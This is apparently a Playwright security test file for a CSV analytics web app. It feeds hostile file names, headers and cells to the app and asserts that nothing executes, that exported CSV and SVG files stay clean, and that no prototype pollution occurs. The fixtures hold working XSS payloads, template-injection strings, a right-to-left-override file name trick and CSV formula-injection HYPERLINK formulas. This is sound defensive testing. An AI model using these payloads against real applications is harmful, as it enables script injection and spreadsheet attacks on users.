// Files made to harm: whatever stands in a cell, a header or a file's name is shown as text and does nothing else.

import { expect, type Locator, type Page, test } from "@playwright/test";
import { readFile } from "node:fs/promises";
import { csv, NinefoldPage } from "./support/page";

// Every text carries this mark, so that it can be looked for where it must not be.
const MARK = "zq9x";
const run = `parent.harmed='${MARK}'`;
const markup = [
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}"><script>${run}</script></svg>`,
  `</th></table><script>${run}</script>`,
  `"><iframe srcdoc="<script>${run}</script>">`,
  `<a href="javascript:${run}" autofocus onfocus="${run}">${MARK}</a>`,
  `</title></style><math><mi xlink:href="data:x,${MARK}">`,
  `{{constructor.constructor("${run}")()}} \${${run}}`,
  `&lt;b&gt;${MARK}]]><!--`,
];
const odd = [
  ...["__proto__", "constructor", "toString", "hasOwnProperty"].flatMap((name) => [name, `${name} ${MARK}`]),
  `${MARK}\u202egnp.exe\u2066`,
  `\u200b${MARK}\u200d\u00ad\ufeff`,
  `${MARK}${"W".repeat(10_000)}`,
  `${MARK} ${"\u0e49".repeat(400)}`,
  `${MARK} 😀👩‍👩‍👧‍👦𠮷`,
  `${MARK}\none\r\ntwo`,
  ...["=", "+", "-", "@", "\t=", "\r="].map((lead, i) => `${lead}HYPERLINK("http://${MARK}.invalid/?"&A1,"${i}")`),
];
const NAMES = [...markup, ...odd];
const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;

/** A wide table of hostile customers; unused columns and every refused amount are hostile too. */
function hostile(): string {
  const head = ["customer_id", "2024-01", "2025-01", ...markup, "__proto__", `${MARK}${"H".repeat(5_000)}`, `=${MARK}\u202e`];
  const rows = NAMES.flatMap((name, i) => [
    [name, String(1_000 - i), String(900 + i)],
    [`${MARK} row ${i}`, name, "1"],
  ]);
  return [head, ...rows].map((row) => row.map(quoted).join(",")).join("\r\n");
}

/** What must not be, whatever is on screen. */
async function harmless(page: Page, what: string) {
  const found = await page.evaluate((mark) => {
    const tags = "img, iframe, script, object, embed, math, style, link, base, form, foreignObject, [onload], [onerror], [onfocus], [href^='javascript']";
    const made = document.body.querySelectorAll(tags);
    return {
      made: [...made].map((element) => element.tagName),
      ran: (window as unknown as { harmed?: string }).harmed ?? "",
      polluted: Object.keys(Object.prototype),
      address: decodeURIComponent(location.href).includes(mark) || JSON.stringify(history.state ?? "").includes(mark),
      title: document.title.includes(mark),
      over: document.documentElement.scrollWidth - document.documentElement.clientWidth,
    };
  }, MARK);
  expect(found, what).toEqual({ made: [], ran: "", polluted: [], address: false, title: false, over: expect.any(Number) });
  expect(found.over, `${what} is wider than the window`).toBeLessThanOrEqual(0);
}

test.use({ viewport: { width: 375, height: 740 } });

test("cells, headers and names of files are text and nothing else", async ({ page }) => {
  const said: string[] = [];
  page.on("console", (message) => said.push(message.text()));
  page.on("dialog", (dialog) => said.push(`dialog ${MARK} ${dialog.message()}`));
  const ninefold = new NinefoldPage(page);
  await ninefold.open();
  await ninefold.report(csv(`"><img src=x onerror=${run}>\u202e${"N".repeat(180)}.csv`, hostile()));
  expect((await ninefold.metric("customers")).value).toBe(NAMES.length);
  await harmless(page, "the report");

  await page.locator('[data-metric="nrr"]').first().click();
  const dialog = page.getByRole("dialog");
  const table = dialog.getByRole("region");
  await expect(table.locator("table")).toHaveAttribute("aria-rowcount", String(NAMES.length + 1));
  const shown = await table.locator("tbody th").allTextContents();
  await table.evaluate((element) => { element.scrollTop = element.scrollHeight; });
  await expect(table.locator(`[aria-rowindex="${NAMES.length + 1}"]`)).toBeVisible();
  shown.push(...(await table.locator("tbody th").allTextContents()));
  for (const name of markup) expect(shown).toContain(name);
  // However long a name is, the figures beside it stay near.
  for (const name of await dialog.locator("tbody th").all()) expect((await name.boundingBox())?.width ?? 999).toBeLessThan(375 / 2);
  await harmless(page, "the customers");
  await page.keyboard.press("Escape");

  await page.locator(".rail-select").selectOption({ label: "Data" });
  const rejects = page.getByTestId("rejects");
  if ((await rejects.getAttribute("open")) === null) await rejects.locator("summary").click();
  for (const name of markup.slice(0, 3)) await expect(rejects).toContainText(name);
  await harmless(page, "how it was read");

  await page.getByTestId("language").click();
  await harmless(page, "in Chinese");
  expect(said.filter((text) => text.includes(MARK))).toEqual([]);
  expect(ninefold.requestsSinceSeal).toEqual([]);
});

test("a file of nothing but hostile headers fails in words", async ({ page }) => {
  const ninefold = new NinefoldPage(page);
  await ninefold.open();
  await ninefold.choose(csv(`${MARK}<svg onload=${run}>.csv`, `${markup.map(quoted).join(",")}\n${markup.map(quoted).join(",")}\n`));
  await ninefold.reaches("failed");
  await harmless(page, "the failure");
});

test("what is saved holds no formula and no script", async ({ page, context }) => {
  const ninefold = new NinefoldPage(page);
  await ninefold.open();
  await ninefold.report(csv("hostile.csv", hostile()));
  const rooms = await page.locator(".rail-links a").evaluateAll((links) => links.map((link) => link.getAttribute("href")));
  let saved = 0;
  // Chromium lets a tab save ten files, so that a room may take several.
  const tabAt = async (room: string | null): Promise<[Page, Locator]> => {
    const tab = await context.newPage();
    const other = new NinefoldPage(tab);
    await other.open();
    await other.report(csv("hostile.csv", hostile()));
    await tab.evaluate((hash) => (location.hash = hash ?? ""), room);
    await expect(tab.locator(`.rail-links a[href="${room}"]`)).toHaveAttribute("aria-current", "page");
    return [tab, tab.locator("button.chart-tool:visible").filter({ hasText: /^(SVG|CSV)$/ })];
  };
  for (const room of rooms) {
    let [tab, buttons] = await tabAt(room);
    const count = await buttons.count();
    for (let i = 0; i < count; i++) {
      if (i > 0 && i % 8 === 0) {
        await tab.close();
        [tab, buttons] = await tabAt(room);
      }
      saved += 1;
      const [download] = await Promise.all([tab.waitForEvent("download"), buttons.nth(i).click()]);
      const text = await readFile(await download.path(), "utf8");
      if (download.suggestedFilename().endsWith(".csv")) {
        const cells = text.slice(1).split(/\r\n|,/).map((cell) => cell.replace(/^"/, ""));
        expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))).toEqual([]);
      } else {
        const faults = await tab.evaluate((svg) => {
          const file = new DOMParser().parseFromString(svg, "image/svg+xml");
          const all = [...file.querySelectorAll("*")];
          const bad = all.filter((e) => /^(parsererror|script|foreignObject|a|image|use|animate|set)$/i.test(e.tagName) || [...e.attributes].some((a) => /^on|href$/i.test(a.name)));
          return [file.documentElement.tagName, ...bad.map((e) => e.outerHTML)];
        }, text);
        expect(faults).toEqual(["svg"]);
      }
    }
    await tab.close();
  }
  expect(saved).toBeGreaterThanOrEqual(9);
});
